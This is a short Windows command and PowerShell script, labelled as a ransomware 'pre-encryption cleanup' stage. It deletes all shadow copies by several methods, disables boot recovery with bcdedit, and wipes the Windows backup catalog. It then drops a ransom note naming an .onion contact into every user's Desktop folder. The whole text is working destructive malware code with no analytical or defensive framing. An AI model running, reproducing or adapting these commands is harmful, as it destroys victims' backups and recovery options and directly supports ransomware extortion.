# pre-encryption cleanup
vssadmin.exe delete shadows /all /quiet
wmic.exe shadowcopy delete /nointeractive
Get-CimInstance -ClassName Win32_ShadowCopy | Remove-CimInstance
bcdedit.exe /set '{default}' recoveryenabled no
bcdedit.exe /set '{default}' bootstatuspolicy ignoreallfailures
wbadmin.exe delete catalog -quiet
$note = "Your files are encrypted. Contact recover@example.onion"
Get-ChildItem -Path C:\Users -Directory | ForEach-Object {
    Set-Content -Path (Join-Path $_.FullName 'Desktop\README_RESTORE.txt') -Value $note -ErrorAction SilentlyContinue
}
